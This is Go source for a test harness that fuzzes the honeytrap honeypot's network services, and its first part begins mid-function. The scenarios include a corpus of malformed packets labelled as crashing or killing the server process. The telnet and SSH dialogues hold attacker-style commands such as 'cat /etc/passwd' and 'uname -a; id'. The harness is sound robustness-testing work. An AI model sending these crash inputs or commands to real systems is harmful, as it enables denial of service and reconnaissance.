			d = append(d, bs("DATA\r\n"), bs("Subject: hi\r\n\r\nbody\r\n.\r\n"))
		case 1:
			d = append(d, bs("BDAT 4 LAST\r\nabc\n"))
		default:
			d = append(d, bs("BDAT 3\r\nabc"), bs("RSET\r\n"))
		}
		return append(d, bs("QUIT\r\n"))
	case "snmp":
		comm := r.PickStr([]string{"public", "private", ""})
		pdu := byte(r.PickInt([]int{0xa0, 0xa1, 0xa3, 0xa5}))
		vb := []byte{0x30, 0x0b, 0x30, 0x09, 0x06, 0x05, 0x2b, 0x06, 0x01, 0x02, 0x01, 0x05, 0x00}
		inner := cat([]byte{0x02, 0x04, 0x11, 0x22, 0x33, 0x44, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00}, vb)
		body := cat([]byte{0x02, 0x01, byte(r.PickInt([]int{0, 0, 0, 1}))}, []byte{0x04, byte(len(comm))}, bs(comm), []byte{pdu, byte(len(inner))}, inner)
		return [][]byte{cat([]byte{0x30, byte(len(body))}, body)}
	case "ssh-auth", "ssh-simulator":
		return [][]byte{bs("SSH-2.0-OpenSSH_7.4\r\n"), cat([]byte{0, 0, 0, 12, 4, 20}, r.Bytes(10))}
	case "telnet":
		d := [][]byte{bs("root\r\n"), bs("hunter2\r\n")}
		for i, n := 0, r.Range(0, 3); i < n; i++ {
			d = append(d, bs(r.PickStr([]string{"ls\r\n", "\r\n", "cat /etc/passwd\r\n", "\xff\xfb\x01\xff\xfd\x03", "\x1b[A\r\n", "\x03", "exit\r\n"})))
		}
		return d
	case "tftp":
		f := r.PickStr([]string{"a", "boot.bin", ""})
		switch r.Intn(4) {
		case 0:
			return [][]byte{cat([]byte{0, 1}, bs(f), []byte{0}, bs("octet"), []byte{0})}
		case 1:
			return [][]byte{cat([]byte{0, 2}, bs(f), []byte{0}, bs("octet"), []byte{0}), cat([]byte{0, 3, 0, 1}, r.Bytes(r.PickInt([]int{0, 5, 40})))}
		case 2:
			return [][]byte{cat([]byte{0, 3, 0, 1}, r.Bytes(7))}
		default:
			return [][]byte{{0, byte(r.PickInt([]int{4, 5, 6, 0})), 0, 1}}
		}
	case "vnc":
		d := [][]byte{bs(r.PickStr([]string{"RFB 003.008\n", "RFB 003.008\n", "RFB 003.007\n", "RFB 003.003\n"}))}
		if string(d[0]) != "RFB 003.003\n" {
			d = append(d, []byte{1})
		}
		d = append(d, []byte{1})
		for i, n := 0, r.Range(0, 4); i < n; i++ {
			switch r.Intn(6) {
			case 0:
				d = append(d, vncGood)
			case 1:
				d = append(d, vncPixFmt(byte(r.PickInt([]int{8, 16, 32})), 24, byte(r.Intn(2)), 1, 31, 31, 31, 10, 5, 0))
			case 2:
				d = append(d, []byte{2, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0, 1})
			case 3:
				d = append(d, vncUpdReq(byte(r.Intn(2))))
			case 4:
				d = append(d, []byte{4, 1, 0, 0, 0, 0, 0, 0x61})
			default:
				d = append(d, []byte{5, 1, 0, 3, 0, 4})
			}
		}
		return d
	}
	return [][]byte{r.Bytes(8)}
}

func (r *rnd) pickB(xs [][]byte) []byte { return xs[r.Intn(len(xs))] }

// rnd adds helpers to hx.Rand
type rnd struct{ *hx.Rand }

// resegment cuts the concatenation of msgs at random points (first segment often 1 byte)
func resegment(r *hx.Rand, msgs [][]byte) [][]byte {
	all := cat(msgs...)
	if len(all) == 0 {
		return nil
	}
	var out [][]byte
	cut := r.PickInt([]int{1, 1, 2, 3, len(all)})
	for len(all) > 0 {
		if cut > len(all) {
			cut = len(all)
		}
		out = append(out, all[:cut])
		all = all[cut:]
		if len(out) >= 7 {
			cut = len(all)
		} else {
			cut = r.Range(1, len(all)+1)
		}
	}
	return out
}

var hot = []byte{0x00, 0xff, 0x80, 0x85, 0x7f, 0x03, 0x22, 0x0a, 0x20, 0x2a, 0x30, 0x01}

func mutate(r *hx.Rand, b []byte) []byte {
	b = append([]byte(nil), b...)
	for k, n := 0, r.Range(1, 3); k < n && len(b) > 0; k++ {
		i := r.Intn(len(b))
		switch r.Intn(4) {
		case 0:
			b[i] = hot[r.Intn(len(hot))]
		case 1:
			b[i] = byte(r.Intn(256))
		case 2:
			b = append(b[:i], b[i+1:]...)
		default:
			b = append(b[:i], append([]byte{hot[r.Intn(len(hot))]}, b[i:]...)...)
		}
	}
	return b
}

func toB(x [][]byte) []hx.B {
	var o []hx.B
	for _, s := range x {
		o = append(o, hx.B(s))
	}
	return o
}

func isUDPOnly(svc string) bool {
	switch svc {
	case "counterstrike", "snmp", "tftp":
		return true
	}
	return false
}

func hasUDP(svc string) bool { d := svcByName(svc); return d != nil && d.UDP }

// randomScenario: one generated scenario for the service.
func randomScenario(hr *hx.Rand, svc string) Scenario {
	r := &rnd{hr}
	sc := Scenario{Svc: svc, Proto: "tcp"}
	if isUDPOnly(svc) || (hasUDP(svc) && svc != "echo" && svc != "ntp" && r.Chance(1, 2)) {
		sc.Proto = "udp"
	}
	msgs := dialogue(svc, r)
	if svc == "memcached" && sc.Proto == "udp" {
		for i := range msgs {
			msgs[i] = cat([]byte{0, 1, 0, 0, 0, 1, 0, 0}, msgs[i])
		}
	}
	stream := r.PickStr([]string{"dialogue", "dialogue", "truncated", "mutated", "mutated", "raw"})
	sc.Kind = stream
	var segs [][]byte
	switch stream {
	case "dialogue":
		segs = msgs
		if sc.Proto == "tcp" && r.Chance(1, 2) {
			segs = resegment(hr, msgs)
		}
	case "truncated":
		if sc.Proto == "udp" {
			for _, m := range msgs {
				segs = append(segs, m[:r.Intn(len(m)+1)])
			}
		} else {
			all := cat(msgs...)
			all = all[:r.Intn(len(all)+1)]
			segs = resegment(hr, [][]byte{all})
		}
	case "mutated":
		if sc.Proto == "udp" {
			for _, m := range msgs {
				segs = append(segs, mutate(hr, m))
			}
		} else {
			k := r.Intn(len(msgs))
			m2 := append([][]byte(nil), msgs...)
			m2[k] = mutate(hr, m2[k])
			segs = m2
			if r.Chance(1, 2) {
				segs = resegment(hr, m2)
			}
		}
	default:
		n := r.PickInt([]int{0, 1, 2, 3, 4, 5, 7, 8, 24, 40})
		segs = [][]byte{r.Bytes(n)}
		if r.Chance(1, 2) && len(msgs) > 0 && len(msgs[0]) > 0 {
			segs = [][]byte{cat(msgs[0][:r.Intn(len(msgs[0]))+0], r.Bytes(n))}
		}
	}
	if sc.Proto == "udp" && len(segs) > 4 {
		segs = segs[:4] // stay inside the limiter burst of 4 per source address
	}
	k := r.PickInt([]int{1, 1, 1, 1, 2, 3, 4})
	for i := 0; i < k; i++ {
		sc.Conns = append(sc.Conns, Conn{Segs: toB(segs)})
	}
	if svc == "vnc" {
		sc.Linger = 120
	}
	return sc
}

// ---- structured ssh-simulator scenarios ----
func sshStr(s string) []byte {
	return cat([]byte{byte(len(s) >> 24), byte(len(s) >> 16), byte(len(s) >> 8), byte(len(s))}, bs(s))
}

func sshScenario(hr *hx.Rand) Scenario {
	r := &rnd{hr}
	sc := Scenario{Svc: "ssh-simulator", Proto: "tcp", Kind: "ssh", Linger: 150}
	in := &SSHIn{}
	for i, n := 0, r.Range(1, 3); i < n; i++ {
		ty := r.PickStr([]string{"env", "env", "exec", "exec", "pty-req", "subsystem", "tcpip-forward", "x11-req", "shell"})
		var p []byte
		switch r.Intn(6) {
		case 0:
			p = cat(sshStr("LANG"), sshStr("C"))
		case 1:
			p = sshStr(r.PickStr([]string{"ls -la", "", "uname -a; id"}))
		case 2:
			p = nil
		case 3: // multiple of 4 only when the walk says so: declared length beyond the payload
			p = cat([]byte{0, 0, 0, byte(r.Range(0, 9))}, r.Bytes(r.Range(0, 8)))
		case 4:
			p = cat(sshStr("A"), r.Bytes(4))
		default:
			p = cat(sshStr("TERM"), sshStr("xterm"), []byte{0, 0, 0, 0})
		}
		in.Reqs = append(in.Reqs, SSHReq{Type: ty, Payload: p})
	}
	if r.Chance(1, 6) {
		in.Chan = r.PickStr([]string{"direct-tcpip", "forwarded-tcpip", "x11"})
		in.Extra = cat(sshStr("10.0.0.1"), []byte{0, 0, 0, 80}, sshStr("10.0.0.2"), []byte{0, 0, 4, 0})
		if r.Chance(1, 2) {
			in.Extra = in.Extra[:r.Intn(len(in.Extra))]
		}
	}
	sc.Conns = []Conn{{SSH: in}}
	return sc
}

// ---- corpus: the boundary cases named by the property, one scenario each ----
func corpus() []Scenario {
	tcp := func(svc, kind string, linger int, segs ...[]byte) Scenario {
		return Scenario{Svc: svc, Proto: "tcp", Kind: kind, Linger: linger, Conns: []Conn{{Segs: toB(segs)}}}
	}
	udp := func(svc, kind string, dg ...[]byte) Scenario {
		return Scenario{Svc: svc, Proto: "udp", Kind: kind, Conns: []Conn{{Segs: toB(dg)}}}
	}
	ssh := func(kind, ty string, p []byte) Scenario {
		return Scenario{Svc: "ssh-simulator", Proto: "tcp", Kind: kind, Linger: 150, Conns: []Conn{{SSH: &SSHIn{Reqs: []SSHReq{{Type: ty, Payload: p}}}}}}
	}
	ippHdr := []byte{1, 1, 0, 0x0b, 0, 0, 0, 1}
	vncHello := [][]byte{bs("RFB 003.008\n"), {1}, {1}}
	vnc := func(kind string, msgs ...[]byte) Scenario {
		return tcp("vnc", kind, 250, append(append([][]byte(nil), vncHello...), msgs...)...)
	}
	wrq := func(name string) []byte { return cat([]byte{0, 2}, bs(name), []byte{0}, bs("octet"), []byte{0}) }
	var tftpRace Scenario
	{
		tftpRace = Scenario{Svc: "tftp", Proto: "udp", Kind: "corpus-tftp-concurrent-wrq", Rounds: 149}
		for i := 0; i < 32; i++ {
			tftpRace.Conns = append(tftpRace.Conns, Conn{Segs: toB([][]byte{wrq(fmt.Sprintf("f%d", i))})})
		}
	}
	out := []Scenario{
		// recovered panics (confined to the connection)
		udp("counterstrike", "corpus-cs-4-bytes", []byte{0xff, 0xff, 0xff, 0xff}),
		udp("counterstrike", "corpus-cs-4-bytes", []byte{0xff, 0xff, 0xff, 0xfe}),
		tcp("redis", "corpus-redis-empty-array", 0, bs("*0\r\n")),
		tcp("smtp", "corpus-smtp-bdat-no-arg", 0, bs("EHLO a\r\nMAIL FROM:<a>\r\nBDAT\r\n")),
		tcp("adb", "corpus-adb-short-cnxn", 0, bs("CNXN")),
		tcp("ftp", "corpus-ftp-stor-without-data-connection", 0, bs("USER anonymous\r\nPASS anonymous\r\nSTOR a\r\n")),
		tcp("ftp", "corpus-ftp-list-without-data-connection", 0, bs("USER anonymous\r\nPASS anonymous\r\nLIST\r\n")),
		tcp("ftp", "corpus-ftp-cwd-after-login", 0, bs("USER anonymous\r\nPASS anonymous\r\nCWD a\r\nCDUP\r\nQUIT\r\n")),
		tcp("ipp", "corpus-ipp-unknown-value-tag", 0, httpReq("POST", "/", "application/ipp", cat(ippHdr, []byte{1, 0x30, 0, 1, 'a', 0, 1, 'b', 3}))),
		tcp("ldap", "corpus-ldap-negative-length", 0, []byte{0x04, 0x88, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff}),
		udp("snmp", "corpus-snmp-length-2^56", []byte{0x30, 0x88, 0x01, 0, 0, 0, 0, 0, 0, 0}),
		// process-fatal candidates
		udp("snmp", "corpus-snmp-length-2^38", []byte{0x30, 0x85, 0x40, 0, 0, 0, 0}),
		tcp("ldap", "corpus-ldap-length-2^38", 0, []byte{0x04, 0x85, 0x40, 0, 0, 0, 0}),
		ssh("corpus-ssh-env-1-byte", "env", []byte{1}),
		ssh("corpus-ssh-exec-3-bytes", "exec", []byte{0, 0, 0}),
		ssh("corpus-ssh-exec-length-beyond-payload", "exec", []byte{0, 0, 0, 5, 'l'}),
		tcp("ipp", "corpus-ipp-no-end-tag", 0, httpReq("POST", "/", "application/ipp", cat(ippHdr, []byte{1}))),
		tcp("ipp", "corpus-ipp-empty-body", 0, httpReq("POST", "/", "application/ipp", []byte{})),
		tcp("ipp", "corpus-ipp-attribute-then-eof", 0, httpReq("POST", "/", "application/ipp", cat(ippHdr, []byte{1}, ippAttr(0x47, "attributes-charset", "utf-8")))),
		tcp("ipp", "corpus-ipp-boolean-last", 0, httpReq("POST", "/", "application/ipp", cat(ippHdr, []byte{1, 0x22, 0, 1, 'b', 0, 1, 1, 3}))),
		vnc("corpus-vnc-palette-then-update", vncPixFmt(8, 8, 0, 0, 7, 7, 3, 0, 3, 6), vncUpdReq(0)),
		vnc("corpus-vnc-bpp24-then-update", vncPixFmt(24, 24, 0, 1, 255, 255, 255, 16, 8, 0), vncUpdReq(1)),
		vnc("corpus-vnc-update-then-palette", vncUpdReq(1), vncPixFmt(8, 8, 0, 0, 7, 7, 3, 0, 3, 6)),
		tftpRace,
		tftpConcurrent(&rnd{hx.NewRand(11)}, "corpus-tftp-concurrent-wrq-data", 32, 299, false),
		tftpConcurrent(&rnd{hx.NewRand(12)}, "corpus-tftp-concurrent-mixed", 48, 199, true),
		tcp("ftp", "corpus-ftp-port-too-few-numbers", 0, bs("USER anonymous\r\nPASS anonymous\r\nPORT 1,2\r\n")),
		tcp("ftp", "corpus-ftp-eprt-too-few-fields", 0, bs("USER anonymous\r\nPASS anonymous\r\nEPRT |1|\r\n")),
		// telnet: ESC followed by 255 bytes that never end the sequence fills the terminal's input buffer
		tcp("telnet", "corpus-telnet-escape-fills-input-buffer", 100, bs("root\r\npw\r\n"), cat([]byte{0x1b}, bs(strings.Repeat("0", 255))), bs("ls\r\n")),
		// stalls without allocation (reported as tag, not a C01 violation)
		udp("echo", "corpus-udp-echo-spins", bs("hi")),
		udp("ntp", "corpus-udp-ntp-spins", make([]byte, 48)),
	}
	return out
}

// tftp under load: k concurrent clients from distinct source addresses, each handled in
// its own goroutine as the server does for udp, each running a short upload; repeated
// for many rounds so that any map operation outside the mutex (insert on WRQ, delete on
// the terminating DATA block) meets another one.
func tftpConcurrent(r *rnd, kind string, k, rounds int, mixed bool) Scenario {
	wrq := func(name string) []byte { return cat([]byte{0, 2}, bs(name), []byte{0}, bs("octet"), []byte{0}) }
	short := func() []byte { return cat([]byte{0, 3, 0, 1}, r.Bytes(r.PickInt([]int{0, 1, 9, 60}))) }
	full := func() []byte { return cat([]byte{0, 3, 0, 1}, r.Bytes(512)) }
	sc := Scenario{Svc: "tftp", Proto: "udp", Kind: kind, Rounds: rounds}
	for i := 0; i < k; i++ {
		name := fmt.Sprintf("f%d", i)
		var prog [][]byte
		which := 0
		if mixed {
			which = r.Intn(5)
		}
		switch which {
		case 0, 1:
			prog = [][]byte{wrq(name), short()} // upload of one terminating block
		case 2:
			blk2 := short()
			blk2[3] = 2
			prog = [][]byte{wrq(name), full(), blk2} // a full block, then the terminating one
		case 3:
			prog = [][]byte{wrq(name)} // upload never continued
		default:
			prog = [][]byte{short()} // DATA without a transfer
		}
		sc.Conns = append(sc.Conns, Conn{Segs: toB(prog)})
	}
	return sc
}

// generated tftp load scenarios (all tiers)
func tftpLoadScenarios(hr *hx.Rand, n int) []Scenario {
	r := &rnd{hr}
	var out []Scenario
	for i := 0; i < n; i++ {
		k := r.PickInt([]int{16, 24, 32, 48, 64})
		rounds := r.Range(150, 300) * 32 / k
		out = append(out, tftpConcurrent(r, "tftp-load", k, rounds, i%2 == 1))
	}
	return out
}

// deep recursion inputs: the segment is repeated Rep+1 times (thorough tier)
func deepScenarios() []Scenario {
	return []Scenario{
		{Svc: "redis", Proto: "tcp", Kind: "corpus-redis-nested-arrays", Conns: []Conn{{Segs: toB([][]byte{bs(strings.Repeat("*1\n", 1000))}), Rep: 11999}}},
		{Svc: "ldap", Proto: "tcp", Kind: "corpus-ldap-nested-sequences", Conns: []Conn{{Segs: toB([][]byte{bs(strings.Repeat("\x30\x80", 1000))}), Rep: 11999}}},
	}
}
