// C01 lab child: hosts the REAL server (server.New + Run) with all 24 director-less
// services and plays the scenarios it is given, one after the other.  Everything that
// can kill a process happens here; the parent only supervises (exit status, stderr
// banner) and never runs service code itself.
package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"io"
	"net"
	"os"
	"path/filepath"
	"runtime"
	"runtime/debug"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/honeytrap/honeytrap/config"
	"github.com/honeytrap/honeytrap/event"
	"github.com/honeytrap/honeytrap/listener"
	"github.com/honeytrap/honeytrap/pushers"
	"github.com/honeytrap/honeytrap/server"
	_ "github.com/honeytrap/honeytrap/services"
	_ "github.com/honeytrap/honeytrap/services/docker"
	_ "github.com/honeytrap/honeytrap/services/elasticsearch"
	_ "github.com/honeytrap/honeytrap/services/eos"
	_ "github.com/honeytrap/honeytrap/services/ethereum"
	_ "github.com/honeytrap/honeytrap/services/ftp"
	_ "github.com/honeytrap/honeytrap/services/ipp"
	_ "github.com/honeytrap/honeytrap/services/ldap"
	_ "github.com/honeytrap/honeytrap/services/redis"
	_ "github.com/honeytrap/honeytrap/services/smtp"
	_ "github.com/honeytrap/honeytrap/services/snmp"
	_ "github.com/honeytrap/honeytrap/services/ssh"
	_ "github.com/honeytrap/honeytrap/services/telnet"
	_ "github.com/honeytrap/honeytrap/services/vnc"
	"github.com/honeytrap/honeytrap/storage"

	"verif/harness/hx"
	"verif/harness/lab"
)

// ---- what the parent sends / gets back ----

// Conn is one client connection (tcp) or one datagram source (udp: every segment is
// one datagram, each handled by its own Handle call as the socket listener does).
type Conn struct {
	Segs   []hx.B `json:"segs,omitempty"`
	Rep    int    `json:"rep,omitempty"`    // the segment list is sent Rep+1 times (large inputs stay small in the case file)
	Pre    []hx.B `json:"pre,omitempty"`    // sent once before the repeated segments (tcp)
	Join   bool   `json:"join,omitempty"`   // udp: the Rep+1 repetitions form ONE datagram
	Remote string `json:"remote,omitempty"` // source ip (default 198.51.100.<n>)
	SSH    *SSHIn `json:"ssh,omitempty"`    // structured ssh dialogue instead of raw segments
	TLS    string `json:"tls,omitempty"`    // tls client handshake with this server name, then the segments inside the session
}

type Scenario struct {
	ID      int    `json:"id"`
	Svc     string `json:"svc"`
	Proto   string `json:"proto"` // tcp | udp
	Kind    string `json:"kind"`
	Conns   []Conn `json:"conns"`
	Linger  int    `json:"linger,omitempty"`  // ms the clients stay connected after their last write
	Rounds  int    `json:"rounds,omitempty"`  // the whole (concurrent) scenario is repeated Rounds+1 times
	Serial  bool   `json:"serial,omitempty"`  // connections one after the other instead of concurrently
	Local   string `json:"local,omitempty"`   // destination (local) ip of the connections, default 192.0.2.1
	HangMs  int    `json:"hang_ms,omitempty"` // how long a handler may go on after its client is gone (default: the job's)
	Barrier bool   `json:"barrier,omitempty"` // tcp: all connections of a round are accepted first, then all clients write at the same instant
	Fresh   bool   `json:"fresh,omitempty"`   // every "@@@@@@" in a segment becomes a 6-digit number never used before in this child
	Reply   bool   `json:"reply,omitempty"`   // the linger ends as soon as the server has answered; replied connections are counted
	Comment string `json:"comment,omitempty"` // for the replay file only
}

type Job struct {
	DataDir   string     `json:"datadir"`
	Scenarios []Scenario `json:"scenarios"`
	HangMs    int        `json:"hang_ms"`
}

// RawObs is what the child itself can see of one scenario.
type RawObs struct {
	ID        int   `json:"id"`
	Conns     int   `json:"conns"`      // handler invocations started
	Finished  int   `json:"finished"`   // handlers that returned (server closed the connection)
	FatalEvts int   `json:"fatal_evts"` // fatal-severity events (= recovered panics) during the scenario
	Growing   bool  `json:"growing"`    // live heap kept growing while every client was idle
	HeapMB    []int `json:"heap_mb,omitempty"`
	Probe     bool  `json:"probe"`   // a fresh echo connection was served afterwards
	Replied   int   `json:"replied"` // connections on which the server wrote at least one byte (raw tcp only)
	Late      int   `json:"late,omitempty"`
	Poisoned  bool  `json:"poisoned,omitempty"` // the child stops after this scenario
	Ms        int   `json:"ms"`
}

// ---- listener + capture channel (own registrations: timeouts differ from lab's) ----

type recL struct {
	accept  chan net.Conn
	started chan struct{}
	once    sync.Once
}

var theL = &recL{accept: make(chan net.Conn), started: make(chan struct{})}

func (l *recL) AddAddress(a net.Addr)           {}
func (l *recL) SetChannel(c pushers.Channel)    {}
func (l *recL) Start(ctx context.Context) error { l.once.Do(func() { close(l.started) }); return nil }
func (l *recL) Accept() (net.Conn, error)       { return <-l.accept, nil }

var fatalEvents int64

var udpReplies int64

type capCh struct{}

func (capCh) Send(e event.Event) {
	if e.Get("type") == "fatal" && e.Has("stacktrace") {
		atomic.AddInt64(&fatalEvents, 1)
	}
}

func init() {
	listener.Register("c01-rec", func(opts ...func(listener.Listener) error) (listener.Listener, error) {
		return theL, nil
	})
	pushers.Register("c01-cap", func(opts ...func(pushers.Channel) error) (pushers.Channel, error) {
		return capCh{}, nil
	})
}

// ---- services ----

type svcDef struct {
	Name string
	Port int
	TCP  bool
	UDP  bool
	Conf string
}

var svcDefs = []svcDef{
	{"adb", 5555, true, false, ""},
	{"counterstrike", 27015, true, true, ""},
	{"cwmp", 7547, true, false, ""},
	{"dns", 53, true, true, ""},
	{"docker", 2375, true, false, ""},
	{"echo", 7, true, true, ""},
	{"elasticsearch", 9200, true, false, ""},
	{"eos", 8888, true, false, ""},
	{"ethereum", 8545, true, false, ""},
	{"ftp", 21, true, false, ""},
	{"http", 80, true, false, ""},
	{"https", 443, true, false, ""},
	{"ipp", 631, true, false, ""},
	{"ldap", 389, true, false, ""},
	{"memcached", 11211, true, true, ""},
	{"ntp", 123, true, true, ""},
	{"redis", 6379, true, false, ""},
	{"smtp", 25, true, false, ""},
	{"snmp", 161, true, true, ""},
	{"ssh-auth", 2222, true, false, ""},
	{"ssh-simulator", 22, true, false, ""},
	{"telnet", 23, true, false, ""},
	{"tftp", 69, true, true, ""},
	{"vnc", 5900, true, false, "IMAGE"},
}

func svcByName(n string) *svcDef {
	for i := range svcDefs {
		if svcDefs[i].Name == n {
			return &svcDefs[i]
		}
	}
	return nil
}

func mkToml(scratch string) string {
	var sb strings.Builder
	sb.WriteString("[listener]\ntype=\"c01-rec\"\n\n[channel.cap]\ntype=\"c01-cap\"\n\n[[filter]]\nchannel=[\"cap\"]\n\n")
	img := filepath.Join(scratch, "vnc.png")
	for _, d := range svcDefs {
		fmt.Fprintf(&sb, "[service.%q]\ntype=%q\n", d.Name, d.Name)
		switch d.Name {
		case "vnc":
			fmt.Fprintf(&sb, "image=%q\nserver-name=\"lab\"\n", img)
		case "ftp":
			fmt.Fprintf(&sb, "fs_base=%q\n", filepath.Join(scratch, "ftpfs"))
		}
		sb.WriteString("\n")
		if d.TCP {
			fmt.Fprintf(&sb, "[[port]]\nport=\"tcp/%d\"\nservices=[%q]\n\n", d.Port, d.Name)
		}
		if d.UDP {
			fmt.Fprintf(&sb, "[[port]]\nport=\"udp/%d\"\nservices=[%q]\n\n", d.Port, d.Name)
		}
	}
	return sb.String()
}

func writePNG(p string) error {
	im := image.NewRGBA(image.Rect(0, 0, 8, 6))
	for i := 0; i < 8*6; i++ {
		im.Set(i%8, i/8, color.RGBA{uint8(i * 5), uint8(255 - i), 77, 255})
	}
	f, err := os.Create(p)
	if err != nil {
		return err
	}
	defer f.Close()
	return png.Encode(f, im)
}

// ---- injection ----

type udpC struct {
	*listener.DummyUDPConn
	closed chan struct{}
	once   sync.Once
}

func (u *udpC) Close() error { u.once.Do(func() { close(u.closed) }); return nil }

var localIP = net.ParseIP("192.0.2.1")

const childMaxStack = 16 << 20

func inject(c net.Conn) bool {
	select {
	case theL.accept <- c:
		return true
	case <-time.After(5 * time.Second):
		return false
	}
}

// qconn gives the client side of the in-memory pipe the buffering of a socket: Write
// queues and returns, a pump performs one pipe Write per queued chunk (so a segment
// is still delivered by one Write).  Without it two peers that both speak first (ssh
// version exchange) would block each other on the synchronous net.Pipe.
type qconn struct {
	net.Conn
	q    chan []byte
	done chan struct{}
	once sync.Once
}

func newQconn(c net.Conn) *qconn {
	qc := &qconn{Conn: c, q: make(chan []byte, 1024), done: make(chan struct{})}
	go func() {
		defer close(qc.done)
		failed := false
		for b := range qc.q {
			if failed {
				continue
			}
			c.SetWriteDeadline(time.Now().Add(4 * time.Second))
			if _, err := c.Write(b); err != nil {
				failed = true
			}
		}
	}()
	return qc
}

func (qc *qconn) Write(b []byte) (int, error) {
	select {
	case <-qc.done:
		return 0, io.ErrClosedPipe
	default:
	}
	qc.q <- append([]byte(nil), b...)
	return len(b), nil
}

// Flush waits until everything queued so far has been written (or given up on).
func (qc *qconn) Close() error {
	qc.once.Do(func() { close(qc.q) })
	<-qc.done
	return qc.Conn.Close()
}

// sockConn gives the server side of the pipe the one socket behaviour net.Pipe lacks: a
// Read into an empty buffer returns (0, nil) at once (net.Pipe would wait for a writer).
type sockConn struct{ *lab.AConn }

func (c sockConn) Read(b []byte) (int, error) {
	if len(b) == 0 {
		return 0, nil
	}
	return c.AConn.Read(b)
}

// playTCP plays one raw tcp connection; returns true when the server closed its side
// (its handler returned) within the hang limit.
func playTCP(local net.IP, port int, remote net.Addr, cn Conn, linger, hang time.Duration, untilReply bool, ready *sync.WaitGroup, start <-chan struct{}) bool {
	sc, pc := lab.Pipe(&net.TCPAddr{IP: local, Port: port}, remote)
	ok := inject(sockConn{sc})
	if ready != nil {
		ready.Done()
		<-start
	}
	if !ok {
		return false
	}
	cc := newQconn(pc)
	gotReply := make(chan struct{})
	var replyOnce sync.Once
	if cn.SSH != nil {
		playSSH(cc, cn.SSH) // the ssh client reads the transport itself
	} else if cn.TLS != "" {
		cc.SetDeadline(time.Now().Add(20 * time.Second))
		tc := tls.Client(cc, &tls.Config{ServerName: cn.TLS, InsecureSkipVerify: true})
		if err := tc.Handshake(); err == nil {
			for _, s := range cn.Segs {
				tc.Write(s)
			}
			buf := make([]byte, 512)
			tc.SetReadDeadline(time.Now().Add(300 * time.Millisecond))
			if n, _ := tc.Read(buf); n > 0 {
				replyOnce.Do(func() { close(gotReply) })
			}
		}
	} else {
		go func() { // drain replies; note the first one
			buf := make([]byte, 4096)
			for {
				n, err := pc.Read(buf)
				if n > 0 {
					replyOnce.Do(func() { close(gotReply) })
				}
				if err != nil {
					return
				}
			}
		}()
		for _, s := range cn.Pre {
			cc.Write(s)
		}
		for k := 0; k <= cn.Rep; k++ {
			for _, s := range cn.Segs {
				cc.Write(s)
			}
		}
	}
	if linger > 0 {
		var early <-chan struct{}
		if untilReply {
			early = gotReply
		}
		select {
		case <-sc.Closed():
		case <-early:
		case <-time.After(linger):
		}
	}
	cc.Close()
	select {
	case <-gotReply:
		return true
	default:
		return false
	}
}

// handlersRunning counts goroutines that are inside server.(*Honeytrap).handle: the
// only reliable sign that a handler has not returned (a service or a library may
// close the connection from another goroutine long before Handle returns).
func handlersRunning() int {
	buf := make([]byte, 8<<20)
	n := runtime.Stack(buf, true)
	// a goroutine counts when it is inside the server's per-connection function or - should that
	// unexported function be renamed - inside a service (package services/...) below the server:
	// the names of unexported functions of /repo are not relied on alone
	cnt := 0
	for _, g := range strings.Split(string(buf[:n]), "\n\n") {
		if strings.Contains(g, "server.(*Honeytrap).handle(") ||
			(strings.Contains(g, "github.com/honeytrap/honeytrap/services") && strings.Contains(g, "github.com/honeytrap/honeytrap/server.")) {
			cnt++
		}
	}
	return cnt
}

func waitHandlers(hang time.Duration) int {
	deadline := time.Now().Add(hang)
	for {
		n := handlersRunning()
		if n == 0 || time.Now().After(deadline) {
			return n
		}
		time.Sleep(8 * time.Millisecond)
	}
}

func playUDP(local net.IP, port int, remote *net.UDPAddr, dgram []byte, hang time.Duration) bool {
	u := &udpC{DummyUDPConn: &listener.DummyUDPConn{Buffer: append([]byte(nil), dgram...),
		Laddr: &net.UDPAddr{IP: local, Port: port}, Raddr: remote,
		Fn: func(b []byte, addr *net.UDPAddr) (int, error) { atomic.AddInt64(&udpReplies, 1); return len(b), nil }}, closed: make(chan struct{})}
	if !inject(u) {
		return false
	}
	select {
	case <-u.closed:
		return true
	case <-time.After(hang / 4):
		return false
	}
}

func liveHeapMB() int {
	runtime.GC()
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	return int(ms.HeapAlloc >> 20)
}

func echoProbe() bool {
	sc, cc := lab.Pipe(&net.TCPAddr{IP: localIP, Port: 7}, &net.TCPAddr{IP: net.ParseIP("203.0.113.9"), Port: 50000})
	if !inject(sc) {
		return false
	}
	defer cc.Close()
	ok := make(chan bool, 1)
	go func() {
		cc.SetDeadline(time.Now().Add(3 * time.Second))
		if _, err := cc.Write([]byte("c01-probe")); err != nil {
			ok <- false
			return
		}
		buf := make([]byte, 9)
		_, err := io.ReadFull(cc, buf)
		ok <- err == nil && string(buf) == "c01-probe"
	}()
	select {
	case r := <-ok:
		return r
	case <-time.After(4 * time.Second):
		return false
	}
}

var remoteSeq int32

var freshSeq int32

var freshMark = []byte("@@@@@@")

// freshen replaces every "@@@@@@" by a number this child has not used yet
func freshen(cn Conn) Conn {
	id := []byte(fmt.Sprintf("%06d", atomic.AddInt32(&freshSeq, 1)%1000000))
	out := cn
	out.Segs = nil
	for _, s := range cn.Segs {
		out.Segs = append(out.Segs, hx.B(bytes.Replace(s, freshMark, id, -1)))
	}
	if cn.TLS != "" {
		out.TLS = string(bytes.Replace([]byte(cn.TLS), freshMark, id, -1))
	}
	if cn.SSH != nil {
		in := *cn.SSH
		in.User = string(bytes.Replace([]byte(in.User), freshMark, id, -1))
		out.SSH = &in
	}
	return out
}

func runScenario(sc Scenario, hang time.Duration) RawObs {
	t0 := time.Now()
	ob := RawObs{ID: sc.ID}
	d := svcByName(sc.Svc)
	if d == nil {
		hx.Fatal("unknown service %q", sc.Svc)
	}
	ev0 := atomic.LoadInt64(&fatalEvents)
	u0 := atomic.LoadInt64(&udpReplies)
	local := localIP
	if ip := net.ParseIP(sc.Local); ip != nil {
		local = ip
	}
	if sc.HangMs > 0 {
		hang = time.Duration(sc.HangMs) * time.Millisecond
	}
	var mu sync.Mutex
	for round := 0; round <= sc.Rounds; round++ {
		var wg sync.WaitGroup
		var ready *sync.WaitGroup
